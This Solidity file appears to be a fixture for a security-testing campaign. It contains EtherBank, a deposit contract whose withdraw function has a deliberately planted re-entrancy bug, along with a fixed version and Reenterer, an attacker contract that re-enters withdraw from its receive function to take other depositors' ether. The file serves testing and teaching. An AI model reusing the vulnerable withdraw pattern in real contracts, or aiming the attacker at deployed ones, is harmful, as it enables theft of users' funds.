// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @title EtherBank
/// @notice Pattern 2, re-entrancy: a bank of ether deposits. The planted bug: withdraw pays
/// the depositor before it clears their balance, so a contract that re-enters withdraw from
/// its receive function is paid its balance twice, out of the other depositors' ether.
contract EtherBank {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    /// @dev The planted bug: the call comes before the effect.
    function withdraw() external virtual {
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "EtherBank: payment failed");
        balanceOf[msg.sender] = 0;
    }
}

/// @title FixedEtherBank
/// @notice EtherBank that clears the balance before paying (checks, effects, interactions).
contract FixedEtherBank is EtherBank {
    function withdraw() external override {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "EtherBank: payment failed");
    }
}

/// @title Reenterer
/// @notice The campaign's handler for EtherBank (forge's targetContract; the afrspec
/// campaign's Target): an attacker contract holding ether, whose methods the campaign calls.
/// withdraw re-enters the bank once from receive.
contract Reenterer {
    EtherBank public immutable bank;
    bool internal reentering;

    constructor(EtherBank bank_) payable {
        bank = bank_;
    }

    /// @dev Deposits amount, brought into what the contract holds.
    function deposit(uint256 amount) external {
        bank.deposit{value: amount % (address(this).balance + 1)}();
    }

    function withdraw() external {
        reentering = true;
        bank.withdraw();
        reentering = false;
    }

    receive() external payable {
        if (reentering) {
            reentering = false;
            bank.withdraw();
        }
    }
}
